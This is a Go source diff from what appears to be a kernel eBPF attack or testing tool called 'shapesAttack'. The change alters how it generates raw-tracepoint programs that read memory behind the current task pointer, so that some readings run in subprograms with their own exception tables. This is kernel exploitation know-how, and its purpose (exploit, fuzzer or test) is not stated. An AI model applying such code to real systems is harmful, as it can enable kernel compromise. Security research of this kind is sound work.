@@ -104,9 +104,9 @@ func shapeExceptionTable(ctx context.Context, s *shapesAttack) (err error) {
 		nowhere = append(nowhere, 1<<63)
 	}
 	var made []reading
-	for range readers {
-		r := s.newReading(pointer.Offset, field.Offset)
-		if r.program, err = s.typed(bpf.RawTracepoint, 1, r.code, bpf.Typed{}); err != nil {
+	for i := range readers {
+		r := s.newReading(pointer.Offset, field.Offset, i%2 == 1)
+		if r.program, err = s.typed(bpf.RawTracepoint, 1+i%2, r.code, bpf.Typed{}); err != nil {
 			return err
 		}
 		made = append(made, r)
@@ -159,13 +159,18 @@ type reading struct {
 	start int32
 }
 
-func (s *shapesAttack) newReading(pointer, field int) reading {
+// newReading makes a reading of what is at field behind pointer. It is done by a
+// subprogram, which has an exception table of its own then, or by the program.
+func (s *shapesAttack) newReading(pointer, field int, inFunction bool) reading {
 	r := reading{start: s.r.Int32()}
 	r.code = []bpf.Instruction{
 		bpf.Call(bpf.CurrentTask),
 		bpf.LoadMem(bpf.R6, bpf.R0, int16(pointer), bpf.DWord),
-		bpf.Mov.Imm(bpf.R7, r.start),
 	}
+	if inFunction {
+		r.code = append(r.code, bpf.Mov.Reg(bpf.R1, bpf.R6), bpf.CallFunction(1), bpf.Exit(), bpf.Mov.Reg(bpf.R6, bpf.R1))
+	}
+	r.code = append(r.code, bpf.Mov.Imm(bpf.R7, r.start))
 	into := []bpf.Register{bpf.R0, bpf.R1, bpf.R2, bpf.R3, bpf.R4, bpf.R5, bpf.R8, bpf.R9}
 	n := 1 + s.r.IntN(60)
 	for i := range n {
